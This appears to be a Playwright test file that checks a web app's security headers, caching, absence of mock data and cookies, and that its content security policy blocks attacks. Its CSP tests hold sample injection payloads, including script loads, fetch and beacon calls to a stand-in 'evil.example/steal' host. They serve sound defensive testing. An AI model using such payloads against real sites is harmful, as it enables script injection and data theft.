import { readdirSync, readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures';
import { services } from './services';

const dist = new URL('../../../dist-live/', import.meta.url);
const scripts = readdirSync(new URL('assets/', dist)).filter((name) => name.endsWith('.js'));

const commonHeaders = {
  'content-security-policy': [
    "default-src 'none'",
    "base-uri 'none'",
    "object-src 'none'",
    "script-src 'self'",
    "style-src 'self' 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='",
    "img-src 'self' data: https:",
    "font-src 'self'",
    "manifest-src 'self'",
    "worker-src 'self'",
    `connect-src 'self' ${services}`,
    "frame-src 'none'",
    "form-action 'self'",
    "frame-ancestors 'none'",
  ].join('; '),
  'strict-transport-security': 'max-age=63072000; includeSubDomains; preload',
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
  'permissions-policy': 'camera=(), microphone=(), payment=(), usb=(), geolocation=(self)',
};
const [pageCaching, assetCaching] = ['no-cache', 'public, max-age=31536000, immutable'];

for (const [name, path, status, type, caching] of [
  ['the home page', '/', 200, /^text\/html/, pageCaching],
  ['a page', '/find-group', 200, /^text\/html/, pageCaching],
  ['a deep link', '/Manage-group/64a7f0c2e1b5d83f9a6c0001', 200, /^text\/html/, pageCaching],
  ['a page with a query', '/managed-groups?tab=joined', 200, /^text\/html/, pageCaching],
  ['index.html', '/index.html', 200, /^text\/html/, pageCaching],
  ['an unknown page', '/nowhere', 200, /^text\/html/, pageCaching],
  ['an asset', `/assets/${scripts[0]}`, 200, /javascript/, assetCaching],
  ['a missing asset', '/assets/missing-0a1b2c3d.js', 404, /^text\/plain/, assetCaching],
] as const) {
  test(`${name} returns ${status} with all headers`, async ({ request }) => {
    const response = await request.get(path);
    expect(response.status()).toBe(status);
    const headers = response.headers();
    expect(headers).toMatchObject({ ...commonHeaders, 'cache-control': caching });
    expect(headers['content-type']).toMatch(type);
    expect(JSON.stringify(headers)).not.toContain('%');
  });
}

test('the live build contains no mock code or data', async () => {
  expect(readdirSync(dist)).not.toContain('mockServiceWorker.js');
  expect(readdirSync(dist)).not.toContain('hosted-checkout.html');
  for (const name of scripts) {
    const code = readFileSync(new URL(`assets/${name}`, dist), 'utf8');
    // Texts that only the mocks contain.
    for (const marker of ['olivia.carter', 'captain1', 'Austin Spirit', 'mockServiceWorker', 'Multnomah County'])
      expect(code, name).not.toContain(marker);
  }
});

test('component styles are applied under the content security policy', async ({ page }) => {
  await page.goto('/login');
  const login = page.getByRole('button', { name: 'Login', exact: true });
  await expect(login).toHaveCSS('font-family', /Figtree/);
  await expect(login).not.toHaveCSS('background-color', 'rgb(239, 239, 239)');
  await expect(login).not.toHaveCSS('border-radius', '0px');
});

test('the app sets no cookies', async ({ page }) => {
  await page.goto('/login');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await page.context().cookies()).toEqual([]);
});

test.describe('content security policy', () => {
  // The browser logs each violation to the console, which fails other tests.
  test.use({ allowedErrors: [/Content Security Policy/] });

  const attacks: [name: string, directive: string, code: string][] = [
    ['an inline script', 'script-src-elem', "add('script', { textContent: 'window.__pwned = 1' })"],
    ['an inline event handler', 'script-src-attr', 'html(\'<img src="x:" onclick="window.__pwned = 1">\').click()'],
    // The browser exempts code evaluated directly by `page.evaluate`, hence the timer.
    ['eval', 'script-src', "setTimeout(() => eval('window.__pwned = 1'))"],
    ['a script from another origin', 'script-src-elem', "add('script', { src: 'https://evil.example/x.js' })"],
    ['an inline style element', 'style-src-elem', "html('<style>body { display: none }</style>')"],
    ['a fetch to another origin', 'connect-src', "fetch('https://evil.example/steal').catch(() => undefined)"],
    ['a beacon to another origin', 'connect-src', "navigator.sendBeacon('https://evil.example/steal')"],
    ['an iframe', 'frame-src', "add('iframe', { src: 'https://evil.example/' })"],
    ['a base element', 'base-uri', "add('base', { href: 'https://evil.example/' })"],
    ['a form submission to another origin', 'form-action', "add('form', { action: 'https://evil.example/' }).submit()"],
  ];
  const helpers = `
    const add = (name, properties) => {
      const element = Object.assign(document.createElement(name), properties);
      document.body.append(element);
      return element;
    };
    const html = (text) => {
      document.body.insertAdjacentHTML('beforeend', text);
      return document.body.lastElementChild;
    };`;

  for (const [name, directive, code] of attacks) {
    test(`blocks ${name}`, async ({ page }) => {
      await page.goto('/login');
      const heading = page.getByRole('heading', { level: 1, name: 'Login' });
      await expect(heading).toBeVisible();
      expect(await findViolatedDirective(page, `{ ${helpers} ${code} }`)).toBe(directive);
      expect(await page.evaluate('window.__pwned')).toBeUndefined();
      expect(await page.evaluate('document.body.innerText')).toContain('Find your squad');
    });
  }

  test('another page cannot embed the app in an iframe', async ({ page, baseURL }) => {
    const embeddingPage = `${services}/framing.html`;
    await page.route(embeddingPage, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/login"></iframe>` }),
    );
    await page.goto(embeddingPage);
    await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
  });
});

/** Runs the code and returns the directive of the first policy violation. */
async function findViolatedDirective(page: Page, code: string): Promise<string> {
  const violation = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
      }),
  );
  await page.evaluate(code);
  return violation;
}
